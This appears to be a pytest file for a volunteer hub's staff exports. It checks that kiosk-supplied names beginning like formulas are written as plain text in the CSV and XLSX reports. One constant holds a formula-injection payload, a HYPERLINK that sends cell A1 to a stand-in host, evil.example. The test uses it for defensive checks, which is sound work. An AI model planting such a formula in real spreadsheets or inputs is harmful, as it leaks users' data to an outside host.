"""Issue 22 item 6: a kiosk-supplied text beginning like a formula is written as text in every
staff export (CSV and XLSX), at the hub and the workbench (which use the same writers)."""
from __future__ import annotations

import csv
import io
import json
import uuid

from openpyxl import load_workbook

from hub.exports import csv_row, xlsx_append
from hub.reports import report_volunteers
from hub.store import HubStore
from kiosk.timebank.kinds import ISSUED, NAMESPACE
from sync.messages import WireRecord, encode_batch
from tests.support.payloads import complete

TS = "2026-11-22T08:00:00.000+00:00"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_the_helper_neutralises_every_formula_start_and_leaves_numbers():
    assert csv_row(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "王芳", 3, -2.5]) == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "王芳", 3, -2.5]


def _hub_with_a_volunteer_named(tmp_path, name: str) -> HubStore:
    store = HubStore(str(tmp_path / "hub.sqlite3"))
    vid, shift = "vol-x", "shift-x"
    recs = [("volunteer_registered", complete("volunteer_registered", volunteer_id=vid, name=name), None),
            ("volunteer_check_in", complete("volunteer_check_in", shift_id=shift, volunteer_id=vid), None),
            ("volunteer_check_out", complete("volunteer_check_out", shift_id=shift, volunteer_id=vid, hours=2.0),
             str(uuid.uuid5(NAMESPACE, f"out:{shift}:st-a"))),
            ("ledger_movement", complete("ledger_movement", movement_id=str(uuid.uuid5(NAMESPACE, f"earn:{shift}")),
                                         kind="earn", debit=ISSUED, credit=f"volunteer:{vid}", hours=2.0,
                                         reference=shift, source="shift"), None)]
    batch = [WireRecord(rid or f"r{i}", "st-a", i + 1, kind, TS, json.dumps(p)) for i, (kind, p, rid) in enumerate(recs)]
    store.handle_records("yizhan/v1/st-a/records", "st-a", encode_batch("st-a", "b1", batch))
    return store


def test_a_volunteer_named_like_a_formula_is_text_in_the_volunteers_csv_and_xlsx(tmp_path):
    """Before: the name became a live formula cell in the XLSX and a formula cell in the CSV."""
    store = _hub_with_a_volunteer_named(tmp_path, EVIL)
    try:
        out = io.BytesIO()
        report_volunteers(store.engine, "2026-11", "xlsx", out=out)
        cells = [c for ws in load_workbook(io.BytesIO(out.getvalue())).worksheets for row in ws.iter_rows()
                 for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert cells and all(c.data_type == "s" and c.value == EVIL for c in cells)
        out = io.BytesIO()
        report_volunteers(store.engine, "2026-11", "csv", out=out)
        rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
        named = [v for row in rows for v in row if "HYPERLINK" in v]
        assert named and all(v == "'" + EVIL for v in named)
    finally:
        store.close()


def test_the_xlsx_helper_keeps_the_text_exactly(tmp_path):
    from openpyxl import Workbook
    wb = Workbook()
    xlsx_append(wb.active, ["=1+1", 5, "plain"])
    buf = io.BytesIO()
    wb.save(buf)
    ws = load_workbook(io.BytesIO(buf.getvalue())).active
    assert [(c.value, c.data_type) for c in ws[1]] == [("=1+1", "s"), (5, "n"), ("plain", "s")]
